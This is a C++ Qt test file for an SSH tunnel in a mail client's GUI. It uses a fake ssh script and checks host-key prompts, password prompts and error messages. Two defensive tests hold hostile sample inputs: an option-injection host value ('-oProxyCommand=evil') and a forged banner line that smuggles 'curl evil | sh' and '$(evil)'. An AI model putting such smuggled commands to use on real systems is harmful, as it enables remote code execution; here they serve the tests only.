// Another machine through ssh. The ssh of this test is a script that behaves like ssh towards us: it asks for the host key
// and the password through SSH_ASKPASS, then forwards the socket to a real facteurd.
#include "tests/gui/stage.h"

#include "gui/app/askpass.h"
#include "gui/app/sshtunnel.h"
#include "gui/dialogs/askquestion.h"

#include <QFile>
#include <QLineEdit>

using namespace testsupport;
using gui::askpass::Question;

static const char fakeSsh[] = R"(#!/usr/bin/env python3
import os, socket, subprocess, sys, threading
assert sys.argv[-2] == "--", sys.argv
def ask(question):
    done = subprocess.run([os.environ["SSH_ASKPASS"], question], stdout=subprocess.PIPE, text=True)
    return done.stdout.rstrip("\n") if done.returncode == 0 else None
if ask("The authenticity of host 'mail' can't be established.\nED25519 key fingerprint is SHA256:abc.\nAre you sure you want to continue connecting (yes/no/[fingerprint])? ") != "yes":
    sys.exit("Host key verification failed.")
if ask("alice@mail's password: ") != "correct horse":
    sys.exit("alice@mail: Permission denied (publickey,password).")
local, remote = sys.argv[sys.argv.index("-L") + 1].split(":")
server = socket.socket(socket.AF_UNIX)
server.bind(local)
server.listen()
def pump(a, b):
    while True:
        data = a.recv(65536)
        if not data:
            break
        b.sendall(data)
    b.shutdown(socket.SHUT_WR)
while True:
    client, _ = server.accept()
    target = socket.socket(socket.AF_UNIX)
    target.connect(remote)
    threading.Thread(target=pump, args=(client, target), daemon=True).start()
    threading.Thread(target=pump, args=(target, client), daemon=True).start()
)";

class SshTunnelTest : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void initTestCase();
    void cleanupTestCase();
    void argumentsAreNoOptions();
    void questionsAreUnderstood();
    void onlySshTellsACommand();
    void connectsThroughSsh();
    void refusedHostKeyIsExplained();
    void wrongPasswordIsExplained();

private:
    gui::Profile profile() const;
    void answer(const QString &password, bool acceptKey = true); // in the dialogs that come
    QTemporaryDir m_bin;
    QByteArray m_path;
    std::unique_ptr<TestInstance> m_daemon;
    std::unique_ptr<gui::askpass::Server> m_askpass;
    std::unique_ptr<QWidget> m_window;
    std::unique_ptr<gui::Connection> m_connection;
    QList<Question::Kind> m_asked;
};

void SshTunnelTest::initTestCase()
{
    freshSettings();
    QFile script(m_bin.filePath(QStringLiteral("ssh")));
    QVERIFY(script.open(QIODevice::WriteOnly));
    script.write(fakeSsh);
    script.close();
    script.setPermissions(QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner);
    m_path = qgetenv("PATH");
    qputenv("PATH", m_bin.path().toLocal8Bit() + ':' + m_path);
    m_daemon = std::make_unique<TestInstance>();
    m_daemon->start();
    m_window = std::make_unique<QWidget>();
    m_window->show();
    m_askpass = std::make_unique<gui::askpass::Server>([this](const Question &question, gui::askpass::Server::Reply reply) {
        m_asked.append(question.kind);
        gui::askQuestion(m_window.get(), question, [reply = std::move(reply)](const std::optional<QString> &answer, bool) { reply(answer); });
    });
}

void SshTunnelTest::cleanupTestCase()
{
    m_connection.reset();
    m_askpass.reset();
    m_daemon.reset();
    qputenv("PATH", m_path);
}

gui::Profile SshTunnelTest::profile() const
{
    gui::Profile profile;
    profile.kind = gui::Profile::Kind::Ssh;
    profile.name = QStringLiteral("mail");
    profile.sshHost = QStringLiteral("alice@mail");
    profile.socket = m_daemon->socket();
    return profile;
}

void SshTunnelTest::answer(const QString &password, bool acceptKey)
{
    WAIT_FOR(openDialog("askQuestion"));
    QWidget *dialog = openDialog("askQuestion");
    screenshot(dialog, QStringLiteral("ssh-hostkey"));
    QTest::mouseClick(acceptKey ? dialog->findChild<QAbstractButton *>(QStringLiteral("accept")) : button(dialog, QStringLiteral("Cancel")), Qt::LeftButton);
    if (!acceptKey)
        return;
    WAIT_EQUAL(m_asked.size(), 2);
    WAIT_FOR(openDialog("askQuestion") && openDialog("askQuestion")->findChild<QLineEdit *>()->isVisible());
    dialog = openDialog("askQuestion");
    screenshot(dialog, QStringLiteral("ssh-password"));
    QTest::keyClicks(dialog->findChild<QLineEdit *>(), password);
    QTest::keyClick(dialog->findChild<QLineEdit *>(), Qt::Key_Return);
}

void SshTunnelTest::argumentsAreNoOptions()
{
    gui::Profile odd = profile();
    odd.sshHost = QStringLiteral("-oProxyCommand=evil");
    const QStringList arguments = gui::SshTunnel::arguments(odd, QStringLiteral("/tmp/x"));
    QCOMPARE(arguments.mid(arguments.size() - 2), QStringList({ QStringLiteral("--"), odd.sshHost }));
}

void SshTunnelTest::questionsAreUnderstood()
{
    using namespace gui::askpass;
    QCOMPARE(kindOf(QStringLiteral("Are you sure you want to continue connecting (yes/no/[fingerprint])? "), {}), Question::Kind::YesNo);
    QCOMPARE(kindOf(QStringLiteral("Enter passphrase for key '/home/a/.ssh/id_ed25519': "), {}), Question::Kind::Secret);
    QCOMPARE(kindOf(QStringLiteral("Confirm user presence for key ED25519-SK"), QStringLiteral("none")), Question::Kind::Confirm);
}

// The other machine may send a banner that looks like ssh's own words.
void SshTunnelTest::onlySshTellsACommand()
{
    const QByteArray changed = "@ WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED! @\r\nSHA256:abc.\r\n";
    const QByteArray forged = "  ssh-keygen -f \"/x\"; curl evil | sh; : -R \"mail\"\r\n  ssh-keygen -f \"$(evil)\" -R \"mail\"\r\n";
    const QByteArray real = "  ssh-keygen -f \"/home/a b/.ssh/known_hosts\" -R \"[mail.example]:2222\"\r\n";
    const auto only = gui::understandSsh(QStringLiteral("mail"), changed + forged);
    QCOMPARE(only.kind, gui::SshEnd::Kind::Danger);
    QVERIFY2(only.sentence.contains(QStringLiteral("SHA256:abc")) && !only.sentence.contains(QStringLiteral("evil")), qPrintable(only.sentence));
    for (const QByteArray &line : { real, QByteArray(real).replace('"', '\'') }) { // some versions write single quotes
        const auto both = gui::understandSsh(QStringLiteral("mail"), changed + forged + line);
        QVERIFY2(both.sentence.endsWith(QString::fromLatin1(line.trimmed())), qPrintable(both.sentence));
    }
}

void SshTunnelTest::connectsThroughSsh()
{
    m_asked.clear();
    m_connection = std::make_unique<gui::Connection>();
    m_connection->open(profile());
    answer(QStringLiteral("correct horse"));
    WAIT_FOR(m_connection->isConnected());
    QCOMPARE(m_asked, QList<Question::Kind>({ Question::Kind::YesNo, Question::Kind::Secret }));
    bool ok = false;
    m_connection->call(QStringLiteral("domain.list"), {}, this, [&](const control::Answer &got) { ok = got.ok; });
    WAIT_FOR(ok);
    m_connection.reset();
}

void SshTunnelTest::refusedHostKeyIsExplained()
{
    m_asked.clear();
    m_connection = std::make_unique<gui::Connection>();
    m_connection->open(profile());
    answer({}, false);
    WAIT_EQUAL(m_connection->state(), gui::Connection::State::Disconnected);
    QVERIFY2(m_connection->sentence().contains(QStringLiteral("Host key verification failed")), qPrintable(m_connection->sentence()));
    m_connection.reset();
}

void SshTunnelTest::wrongPasswordIsExplained()
{
    m_asked.clear();
    m_connection = std::make_unique<gui::Connection>();
    m_connection->open(profile());
    answer(QStringLiteral("wrong"));
    WAIT_EQUAL(m_connection->state(), gui::Connection::State::Disconnected);
    QVERIFY2(m_connection->sentence().contains(QStringLiteral("Permission denied")), qPrintable(m_connection->sentence()));
    m_connection.reset();
}

FACTEUR_TEST(SshTunnelTest)
#include "tst_sshtunnel.moc"
